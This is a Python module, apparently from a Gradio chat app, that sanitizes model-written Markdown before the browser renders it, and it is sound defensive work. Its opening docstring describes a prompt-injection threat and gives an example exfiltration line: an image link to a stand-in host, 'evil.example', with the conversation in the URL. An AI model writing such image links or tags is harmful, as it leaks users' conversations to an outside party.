"""Model text on the page: it may never make the visitor's browser fetch anything.

A reply is Markdown, and Gradio's page renders Markdown and the HTML in it (then Mermaid diagrams and KaTeX in
the result). A prompt-injected model could write `![x](https://evil.example/?q=<conversation>)`, `<img src=…>`
or a Mermaid node holding an image, and leak the conversation through the URL the browser fetches.

So the page never gets the model's Markdown. `page_html` renders it with one real parser (markdown-it-py, raw
HTML off, so any tag is text) and cleans the result with one real sanitizer (nh3, an allowlist of the tags and
attributes Markdown makes: no images, media, styles, frames or classes, links only to http(s) and mail).
Images become links. The HTML goes to the page as a single `<div>` line, which Gradio's Markdown renderer
passes through as one HTML block without reading anything inside it as Markdown again. The page's
Content-Security-Policy (app/security_headers.py) is the second fence, should markup ever slip through.

Only the browser's copy is made this way (`shown_on_page`); handlers, API and MCP clients get the model's own
text. The page's copy carries that text along (`source_text`), so a conversation the browser sends back gives
the model exactly what it wrote.
"""

from __future__ import annotations

import base64
import binascii
import functools
import hashlib
import hmac
import re
import secrets
import time
from collections.abc import Callable, Iterator

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

# The tags markdown-it's CommonMark renderer (with tables and strikethrough) writes, images left out.
ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "th": {"style"}, "td": {"style"}}
ALLOWED_URL_SCHEMES = {"http", "https", "mailto"}
# Table cells align with `style="text-align:…"`; no other property (and so no `url(…)`) is kept.
ALLOWED_STYLE_PROPERTIES = {"text-align"}
LINK_REL = "noopener noreferrer nofollow"
IMAGE_MARK = "🖼"

# The page's copy carries its source text, signed with this process's key: text the model wrote to look like
# a page copy is not one, and gets rendered like any other text.
_SIGNING_KEY = secrets.token_bytes(32)
_PAGE_COPY = re.compile(r"<div>(.*)<!--source:([A-Za-z0-9+/=]*):([0-9a-f]{64})--></div>", re.DOTALL)
# How often a streamed reply is rendered again for the page (the API stream is not slowed).
PAGE_REFRESH_S = 0.2


def _image_as_link(self, tokens, index, options, env) -> str:
    token = tokens[index]
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    return f'<a href="{escapeHtml(token.attrGet("src") or "")}">{IMAGE_MARK} {escapeHtml(alt)}</a>'


@functools.cache
def _markdown() -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    parser.add_render_rule("image", _image_as_link)
    return parser


def page_html(text: str, decorate: Callable[[str], str] | None = None) -> str:
    """`text` (Markdown) as the page shows it: sanitized HTML on one line, with the text itself kept inside.

    `decorate` adds the app's own markup to the sanitized HTML (the Video tab's time chips) before it is signed.
    """
    if not text or _signed_source(text) is not None:
        return text
    html = nh3.clean(
        _markdown().render(text),
        tags=ALLOWED_TAGS,
        clean_content_tags={"script", "style"},
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=ALLOWED_URL_SCHEMES,
        filter_style_properties=ALLOWED_STYLE_PROPERTIES,
        link_rel=LINK_REL,
        strip_comments=True,
    )
    # No newline, so no blank line: Markdown can't end the HTML block early and parse the rest as Markdown.
    one_line = html.strip().replace("\r", "&#13;").replace("\n", "&#10;")
    if decorate is not None:
        one_line = decorate(one_line)
    source = base64.b64encode(text.encode("utf-8")).decode("ascii")
    return f"<div>{one_line}<!--source:{source}:{_signature(one_line, source)}--></div>"


def _signature(html: str, source: str) -> str:
    return hmac.new(_SIGNING_KEY, f"{html}\0{source}".encode(), hashlib.sha256).hexdigest()


def _signed_source(shown: str) -> str | None:
    match = _PAGE_COPY.fullmatch(shown)
    if match is None or not hmac.compare_digest(match.group(3), _signature(match.group(1), match.group(2))):
        return None
    try:
        return base64.b64decode(match.group(2), validate=True).decode("utf-8")
    except (binascii.Error, UnicodeDecodeError):
        return None


def escaped_text(text: str) -> str:
    """Plain text (a title, a file name) where the page shows it as HTML: every "<" is text."""
    return text.replace("<", "&lt;")


def source_text(shown):
    """The text a page copy was made from (what the model wrote); anything else as it is."""
    if not isinstance(shown, str):
        return shown
    source = _signed_source(shown)
    return shown if source is None else source


def page_messages(messages: list, decorate: Callable[[str], str] | None = None) -> list:
    """Chat messages as the page shows them: the assistant's text contents as `page_html`.

    Anything but a list of messages (`gr.skip()`, an update) passes through as it is."""
    if not isinstance(messages, list):
        return messages
    shown = []
    for message in messages:
        if isinstance(message, dict) and message.get("role") == "assistant":
            content = message.get("content")
            if isinstance(content, str):
                message = {**message, "content": page_html(content, decorate)}
            elif isinstance(content, list):
                parts = [_page_part(part, decorate) for part in content]
                message = {**message, "content": parts}
        shown.append(message)
    return shown


def _page_part(part, decorate: Callable[[str], str] | None):
    """A content part of a message as the page shows it: a text part's text as `page_html`."""
    if isinstance(part, dict) and part.get("type") == "text":
        return {**part, "text": page_html(str(part.get("text", "")), decorate)}
    return part


def shown_on_page(handler: Callable[..., Iterator]) -> Callable[..., Iterator]:
    """A streaming chat handler for the page's own events: each conversation it yields as `page_messages`.

    The page is updated at most every `PAGE_REFRESH_S` while the reply streams (rendering is not free), and
    always with the last conversation.
    """

    @functools.wraps(handler)
    def on_page(*args, **kwargs):
        shown_at = float("-inf")
        pending = None
        for conversation in handler(*args, **kwargs):
            pending = conversation
            if time.monotonic() - shown_at >= PAGE_REFRESH_S:
                shown_at, pending = time.monotonic(), None
                yield page_messages(conversation)
        if pending is not None:
            yield page_messages(pending)

    return on_page


def outputs_on_page(handler: Callable[..., Iterator], shown: tuple) -> Callable[..., Iterator]:
    """A streaming handler for the page's own events: the outputs in `shown` (components, for a handler that
    yields {component: value}; positions, for one that yields tuples) go to the page as `page_html`."""

    @functools.wraps(handler)
    def on_page(*args, **kwargs):
        for outputs in handler(*args, **kwargs):
            if isinstance(outputs, dict):
                yield {key: _page_value(value, _holds(shown, key)) for key, value in outputs.items()}
            else:
                yield tuple(_page_value(value, index in shown) for index, value in enumerate(outputs))

    return on_page


def _holds(shown: tuple, component) -> bool:
    return any(component is output for output in shown)


def _page_value(value, model_text: bool):
    return page_html(value) if model_text and isinstance(value, str) else value
